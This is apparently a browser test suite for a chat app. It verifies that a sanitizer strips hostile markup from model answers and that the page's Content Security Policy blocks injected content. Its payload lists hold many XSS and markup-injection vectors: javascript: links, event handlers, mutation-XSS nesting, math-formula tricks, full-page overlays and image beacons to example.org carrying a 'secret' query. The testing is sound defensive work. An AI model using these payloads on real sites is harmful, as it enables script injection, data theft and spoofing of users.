// What a model writes is shown, and can do nothing else: the sanitizer, and the page's policy behind it.
import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { chatPage, storeMessages, until } from '../support/chat-page.js';

const chat = chatPage();

/** The page with a conversation in which a model has answered `text`. */
async function showAnswer(page: Page, text: string): Promise<void> {
  await storeMessages(page, [
    { role: 'user', text: 'Go' },
    { role: 'assistant', text },
  ]);
  await page.locator('.answer .foot').waitFor();
}

// Each is one that a sanitizer has let through somewhere, or that would look like a part of this page.
const hostile = [
  '<div class="drop">The page is covered</div>',
  '<a class="button-main" href="https://example.org/">Load model</a>',
  '<div style="position:fixed;inset:0;background:red">over all</div>',
  '<h1 id="app" name="body">takes a name</h1><a id="model-panel" popover="manual">p</a>',
  '<form action="https://example.org/"><input name="password"><button formaction="javascript:hit()">Go</button></form>',
  '<dialog open>a window</dialog><details open><summary>more</summary></details>',
  '<button popovertarget="model-panel">a button</button><label for="model-url">l</label>',
  '<img src="https://example.org/spy.png?q=secret" onerror="hit()"><img srcset="https://example.org/b.png">',
  '![spy](https://example.org/spy.png) ![](//example.org/spy2.png) ![r](spy3.png)',
  '<svg onload="hit()"><style>@import "https://example.org/x.css"</style><image href="https://example.org/y.png"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;"></table></mtext></math>',
  '<video src="https://example.org/v"></video><audio src="https://example.org/a"></audio><embed src="https://example.org">',
  '<object data="https://example.org/o"></object><iframe src="https://example.org/"></iframe><iframe srcdoc="<b>x"></iframe>',
  '<base href="https://example.org/"><link rel="stylesheet" href="https://example.org/l.css"><meta http-equiv="refresh" content="0;url=https://example.org/">',
  '<script>hit()</script><script src="https://example.org/s.js"></script><noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<a href="javascript:hit()">js</a> [md](javascript:hit()) [up](JaVaScRiPt:hit()) <a href="&#106;avascript:hit()">e</a>',
  '<a href="data:text/html,<script>hit()</script>">data</a> [blob](blob:x) [file](file:///etc/passwd) <a href="/">home</a>',
  '<a href="https://example.org/" target="_top" rel="opener" ping="https://example.org/ping" download>link</a>',
  '<template><b>t</b></template><slot></slot><x-y is="z">custom</x-y><p contenteditable tabindex=-1 accesskey=x draggable=true>p</p>',
  '<p data-x=1 aria-hidden=true role=alert hidden inert lang=xx dir=rtl>attributes</p><body background="https://example.org/">',
  '<td background="https://example.org/t.png">cell</td><table background="https://example.org/u.png"><tr><td>cell</table>',
];

const allowedTags = new Set(
  'p br hr h1 h2 h3 h4 h5 h6 blockquote pre code ul ol li a strong b em i u s del ins sub sup kbd mark table thead tbody tr th td'.split(
    ' ',
  ),
);
const allowedAttributes = new Set(['href', 'align', 'start', 'target', 'rel', 'tabindex']);

describe('what a model writes', () => {
  it('leaves only plain tags and attributes, whatever it is, and sends nothing', async (test) => {
    // The sanitizer parses markup in a document of its own; the policy speaks up there already.
    await chat.visit(test, { expected: /Content Security Policy/ }, async (page) => {
      const requests = new Set<string>();
      page.on('request', (request) => requests.add(new URL(request.url()).origin));
      await page.evaluate(() => Object.assign(window, { hit: () => Object.assign(window, { wasHit: true }) }));
      await showAnswer(page, hostile.join('\n\n'));
      const found = await page.locator('.prose .block').evaluateAll((blocks) =>
        blocks.flatMap((block) =>
          [...block.querySelectorAll('*')].map((element) => ({
            tag: element.localName,
            attributes: [...element.attributes].map(({ name, value }) => [name, value]),
          })),
        ),
      );
      expect(found.length).toBeGreaterThan(20);
      for (const { tag, attributes } of found) {
        expect(allowedTags, tag).toContain(tag);
        for (const [name, value] of attributes) {
          expect(allowedAttributes, `${tag} ${name}=${value}`).toContain(name);
          if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
          if (name === 'target') expect(value).toBe('_blank');
          if (name === 'rel') expect(value).toBe('noopener noreferrer nofollow');
        }
      }
      expect(await page.locator('.drop, dialog[open], :popover-open').count()).toBe(0);
      const covered = await page.locator('.header').evaluate((header) => {
        const { x, y, width, height } = header.getBoundingClientRect();
        return !header.contains(document.elementFromPoint(x + width / 2, y + height / 2));
      });
      expect(covered).toBe(false);
      expect(await page.evaluate('window.wasHit')).toBeUndefined();
      expect(requests).toEqual(new Set([chat.server.origin]));
      // Pictures are links that a person may follow.
      const picture = page.getByRole('link', { name: 'spy', exact: true });
      expect(await picture.getAttribute('href')).toBe('https://example.org/spy.png');
    });
  });

  it('gets no further by way of formulas and code', async (test) => {
    const hostileMath = [
      'A \\(\\href{javascript:hit()}{x}\\) and $\\url{https://example.org/}$ and $\\includegraphics{https://example.org/i.png}$',
      '$\\text{</math><img src=x onerror=hit()><style>*{display:none}</style>}$ \ue0000\ue001 $<img src=x onerror=hit()>$',
      '[l](https://example.org/$x$ "$y$") ![$z$](https://example.org/$p.png) <a title="$q$" href="https://example.org/$w$">h</a>',
      '$$\n\\class{drop}{\\htmlId{app}{\\style{position:fixed;inset:0}{\\data{a=b}{x}}}}\n$$',
      '$$\n\\kern{-50em}\\raisebox{50em}{\\rule{200em}{200em}}\\color{red}{\\Huge\\boxed{COVER}}\n$$',
      '$\\def\\a{\\a\\a}\\a$ $\\unicode{x3c}script>hit()</script>$',
      '```html\n</code></pre><script>hit()</script><img src=x onerror=hit()><span class="drop">\n```',
      '```js" onload="hit()\n`<span class="hljs-x drop" style="position:fixed">`\n```',
      '<span class="hljs-keyword drop">s</span><math><mi href="javascript:hit()" style="position:fixed">m</mi></math>',
    ];
    const mathTags =
      /^(math|m(row|i|o|n|s|text|space|frac|sqrt|root|su[bp]|subsup|under|over|underover|table|tr|td|padded|phantom|enclose|style))$/;
    await chat.visit(test, { expected: /Content Security Policy/ }, async (page) => {
      await page.evaluate(() => Object.assign(window, { hit: () => Object.assign(window, { wasHit: true }) }));
      const requests = new Set<string>();
      page.on('request', (request) => requests.add(new URL(request.url()).origin));
      await showAnswer(page, [...hostileMath, '$drawn$'].join('\n\n'));
      await page.locator('.prose .block').last().locator('math').waitFor();
      await page.locator('.code-block .hljs-tag').first().waitFor();
      const found = await page.locator('.prose .block *, .prose pre *').evaluateAll((all) =>
        all.map((element) => ({
          tag: element.localName,
          attributes: [...element.attributes].map(({ name, value }) => `${name}=${value}`),
        })),
      );
      for (const { tag, attributes } of found) {
        expect(allowedTags.has(tag) || mathTags.test(tag) || tag === 'span', tag).toBe(true);
        for (const each of attributes) expect(each).not.toMatch(/^(on\w+|style|id|name|src|title)=|drop|javascript:/i);
        if (tag === 'span')
          for (const each of attributes) expect(each).toMatch(/^class=(hljs|language)-[\w-]+( \w+_)*$/);
        if (mathTags.test(tag)) expect(attributes.join()).not.toMatch(/href|class/);
      }
      const covered = await page.locator('.header').evaluate((header) => {
        const { x, y, width, height } = header.getBoundingClientRect();
        return !header.contains(document.elementFromPoint(x + width / 2, y + height / 2));
      });
      expect(covered).toBe(false);
      expect(await page.evaluate('window.wasHit')).toBeUndefined();
      expect(requests).toEqual(new Set([chat.server.origin]));
    });
  });

  it('shows Markdown: headings, lists, code, tables, tasks, links, thoughts', async (test) => {
    const text = [
      '<think>hm</think>',
      '# Title\n\n**bold** and `code` and [link](https://example.org/) and [mail](mailto:a@example.org)\n',
      '- one\n- two\n\n3. three\n\n- [x] done\n- [ ] open\n',
      '```js\nlet a = 1;\n```\n\n|a|b|\n|:-|-:|\n|1|2|\n',
    ].join('\n');
    await chat.visit(test, {}, async (page) => {
      await showAnswer(page, text);
      const prose = page.locator('.prose');
      expect(await prose.locator('h1').innerText()).toBe('Title');
      expect(await prose.locator('strong').innerText()).toBe('bold');
      expect(await prose.locator('li').allInnerTexts()).toEqual(['one', 'two', 'three', '☑ done', '☐ open']);
      expect(await prose.locator('ol').getAttribute('start')).toBe('3');
      expect(await prose.locator('pre[tabindex="0"]').innerText()).toBe('let a = 1;');
      expect(await prose.locator('td').last().getAttribute('align')).toBe('right');
      expect(await prose.locator('a').evaluateAll((links) => links.map((a) => a.getAttribute('href')))).toEqual([
        'https://example.org/',
        'mailto:a@example.org',
      ]);
      expect(await page.locator('.thinking').innerText()).toContain('Thoughts');
    });
  });
});

// What a script that got in would try, and which part of the policy forbids it.
const attempts: [string, string, string][] = [
  ['a script', 'script-src-elem', 'Object.assign(make("script"), { textContent: "hit = 1" })'],
  ['a handler', 'script-src-attr', `markup('<img src="favicon.svg" onload="hit = 1">')`],
  ['a picture', 'img-src', 'make("img").src = "https://example.org/spy.png"'],
  ['a style', 'style-src-elem', 'markup("<style>body { color: red }</style>")'],
  ['a frame', 'frame-src', `markup('<iframe src="https://example.org/"></iframe>')`],
  ['a plug-in', 'object-src', `markup('<object data="https://example.org/"></object>')`],
  ['a base', 'base-uri', 'document.head.append(Object.assign(make("base"), { href: "https://example.org/" }))'],
  ['a form', 'form-action', 'Object.assign(make("form"), { action: "/x" }).submit()'],
  ['a worker', 'worker-src', 'new Worker("data:text/javascript,1")'],
];

describe('the policy of the page', () => {
  it('forbids what a script that got in would try, also where the server sends no headers', async (test) => {
    const withoutHeader = async (context: BrowserContext): Promise<void> => {
      await context.route('**/*', async (route) => {
        const response = await route.fetch();
        const { 'content-security-policy': _, ...headers } = response.headers();
        await route.fulfill({ response, headers });
      });
    };
    await chat.visit(test, { before: withoutHeader, expected: /Content Security Policy/ }, async (page) => {
      await page.getByRole('button', { name: 'Choose a model file' }).waitFor();
      await page.evaluate(() => {
        const forbidden: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) => forbidden.push(event.effectiveDirective));
        Object.assign(window, {
          forbidden,
          make: (tag: string) => document.body.appendChild(document.createElement(tag)),
          markup: (html: string) => document.body.insertAdjacentHTML('beforeend', html),
        });
      });
      for (const [what, directive, script] of attempts) {
        await page.evaluate(`void (${script})`);
        const forbidden = (): Promise<boolean> => page.evaluate(`forbidden.includes('${directive}')`);
        await until(forbidden, `${what} is forbidden by ${directive}`);
      }
      expect(await page.evaluate('window.hit')).toBeUndefined();
    });
  });
});
